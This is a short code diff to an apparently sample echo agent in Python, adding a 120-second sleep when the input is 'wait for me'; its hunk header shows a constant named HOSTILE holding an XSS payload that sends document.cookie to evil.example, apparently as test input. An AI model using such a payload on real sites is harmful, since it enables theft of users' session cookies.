@@ -11,7 +11,9 @@ HOSTILE = "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\"
 
 
 async def answer(text: str) -> str:
-    """The agent of the sample: says what it heard."""
+    """The agent of the sample: says what it heard; if it is asked to wait, only after a while."""
+    if text == "wait for me":
+        await asyncio.sleep(120)
     return f"You said: {text}"
 
 
